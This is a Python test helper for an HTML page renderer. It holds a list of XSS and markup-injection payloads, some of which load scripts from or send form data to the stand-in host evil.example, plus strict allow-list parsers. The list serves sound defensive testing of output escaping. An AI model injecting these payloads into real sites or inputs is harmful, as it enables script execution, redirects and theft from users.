"""What the tests of pages share: hostile texts, a strict parser, and example tables."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import html5lib
import pandas as pd

from newsresearch.page import STYLE

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<b onclick=1>x</b>'>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>go</a>",
    "<a href='https://evil.example'>go</a>",
    "<form action=https://evil.example><input name=p><button>go</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "</style><b>bold</b>",
    "</title><script>alert(1)</script>",
    "</mark></p></div></main></body></html><h1>new page</h1>",
    "<!-- comment --><b>x</b>",
    "--><b>x</b><!--",
    "<![CDATA[<b>x</b>]]>",
    "<?xml version='1.0'?><b>x</b>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><b>x</b>',
    '" style="position:fixed;inset:0',
    "`onmouseover=alert(1)`",
    "&lt;b&gt;already escaped&lt;/b&gt;",
    "&amp;amp; AT&T &copy &nbsp;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;b&#x3e; &NotEqualTilde; &bogus;",
    "javascript:alert(1)",
    "JaVa\tScRiPt:alert(1)",
    "data:text/html,<b>x</b>",
    "vbscript:msgbox(1)",
    "https://ok.example/?a=1&b=<b>2</b>",
    "http://[half",
    "//evil.example/x",
    "from $5 million to $10 million, $$x^2$$ \\(y\\) \\[z\\]",
    "{{ 7 * 7 }} ${7 * 7} <%= 7 * 7 %> %s {0}",
    "**bold** [link](javascript:alert(1)) `code`",
    "null \x00 byte, bell \x07, escape \x1b[31m, delete \x7f, C1 \x9b",
    "over\u202eride \u2066isolate\u2069 mark\u200f \u061c",
    "lone \ud800 and \udfff surrogates",
    "non-characters \ufffe \uffff \ufdd0 and a \ufeff mark",
    "line\rbreaks\r\nof\x0bmany\x0ckinds\x85and\u2028separators\u2029end",
    "<table><tr><td>loose</table><td>cell",
    "<plaintext>",
    "<textarea><select><noscript><template><xmp>",
    "<p/onclick=alert(1)//x",
    "<b\nonclick=alert(1)>x",
    "＜script＞full width＜/script＞",
]

NOTEBOOK = {"div", "p", "small", "h2", "h3", "h4", "mark", "sup", "ol", "li", "strong", "br"}
STYLES = re.compile(
    r"background:#[0-9a-f]{6};color:#[0-9a-f]{6}(;text-decoration:underline)?"
    r"(;border-left:2px solid #[0-9a-f]{6})?"
    r"|max-width:46em;overflow-wrap:break-word"
    r"|list-style:none;padding-left:0"
)
XHTML = "{http://www.w3.org/1999/xhtml}"
SVG = "{http://www.w3.org/2000/svg}"
SHAPE = re.compile(r"[MHVlahz\d. -]+")
PAGE = NOTEBOOK | {
    "html", "head", "meta", "title", "style", "body", "main", "article", "h1", "a",
    "table", "caption", "thead", "tbody", "tr", "th", "td", "section", "dl", "dt", "dd",
    "blockquote", "nav", "figure", "figcaption",
}  # fmt: skip
ARC = {
    "svg": {"class", "role", "viewBox"}, "path": {"class", "d"}, "text": {"x", "y"},
    "title": set(), "desc": set(),
}  # fmt: skip
ATTRIBUTES = {"class", "style", "title"}
MORE = {
    "html": {"lang"}, "meta": {"charset", "content", "name", "http-equiv"}, "article": {"id"},
    "a": {"href", "rel", "id", "aria-label"}, "th": {"scope"}, "nav": {"id", "aria-label"},
    "section": {"id"}, "li": {"id"}, **{f"h{level}": {"id"} for level in (2, 3, 4)},
}  # fmt: skip
INSIDE = re.compile(r"#(article-\d+|articles|meanings|a\d+-[a-z]+\d*)")
LINK = re.compile(rf"https?://[a-z.]+(/[^\s]*)?|{INSIDE.pattern}")


def elements(tree: Any) -> Iterator[tuple[str, dict[str, str], Any]]:
    """Yield name, attributes and node of all elements but pictures; a comment is a failure.

    Of pictures only the arc of tones is allowed, with plain shapes and text in it.
    """
    for node in tree.iter():
        if node.tag == "DOCUMENT_FRAGMENT":
            continue
        assert isinstance(node.tag, str), f"comment: {node.text!r}"
        if node.tag.startswith(SVG):
            name = node.tag.removeprefix(SVG)
            assert set(node.attrib) <= ARC.get(name, set()) and name in ARC, name
            assert SHAPE.fullmatch(node.attrib.get("d", "M0 0"))
            continue
        assert node.tag.startswith(XHTML), f"foreign element {node.tag}"
        yield node.tag.removeprefix(XHTML), dict(node.attrib), node


def fragment(markup: str) -> Any:
    return html5lib.HTMLParser(strict=True).parseFragment(markup)


def squeeze(text: str) -> str:
    return " ".join(text.split())


def visible(tree: Any) -> str:
    """Return the text of a tree without the labels, blanks squeezed and cells apart."""
    pieces: list[str] = []

    def walk(node: Any) -> None:
        if node.tag != f"{XHTML}sup":
            pieces.append(node.text or "")
            for child in node:
                walk(child)
                pieces.append(" " * (child.tag[len(XHTML) :] in {"td", "th"}) + (child.tail or ""))

    walk(tree)
    return squeeze("".join(pieces))


def assert_notebook_safe(markup: str) -> Any:
    tree = fragment(markup)
    for name, attributes, _ in elements(tree):
        assert name in NOTEBOOK
        assert set(attributes) <= {"class", "style", "title"}
        assert attributes.get("class", "tex2jax_ignore mathjax_ignore").startswith("tex2jax_ignore")
        assert STYLES.fullmatch(attributes.get("style", "list-style:none;padding-left:0"))
    return tree


def parsed(page: str) -> Any:
    return html5lib.HTMLParser(strict=True).parse(page)


def assert_closed(page: str) -> Any:
    """Assert that nothing on the page is outside the allow-list, and return its tree."""
    tree = parsed(page)
    for name, attributes, node in elements(tree):
        assert name in PAGE
        assert set(attributes) <= ATTRIBUTES | MORE.get(name, set())
        assert STYLES.fullmatch(attributes.get("style", "list-style:none;padding-left:0"))
        assert LINK.fullmatch(attributes.get("href", "#article-1"))
        assert name != "style" or node.text == STYLE
    return tree


def finding(text: str, start: int, end: int, **changes: Any) -> dict[str, Any]:
    row = {
        "check": "repeated_word", "article_id": "a1", "field": "body", "start": start, "end": end,
        "quote": text[start:end], "other_field": "", "other_start": None, "other_end": None,
        "other_quote": "", "reason": "because", "confidence": "high",
    }  # fmt: skip
    return row | changes


def table(*rows: dict[str, Any]) -> pd.DataFrame:
    columns = list(finding("", 0, 0))
    nullable = {"other_start": "Int64", "other_end": "Int64"}
    return pd.DataFrame(list(rows), columns=columns, dtype=object).astype(nullable)


def articles(*rows: dict[str, Any]) -> pd.DataFrame:
    """Return rows as a table; of objects, since a lone surrogate fits no string column."""
    return pd.DataFrame([{"article_id": "a1", "headline": "h"} | row for row in rows], dtype=object)


def marked(tree: Any, label: str) -> str:
    """Return the text of all marks that carry a label."""
    return "".join(
        node.text or ""
        for name, attributes, node in elements(tree)
        if name == "mark" and f"{label} " in attributes.get("title", "")
    )
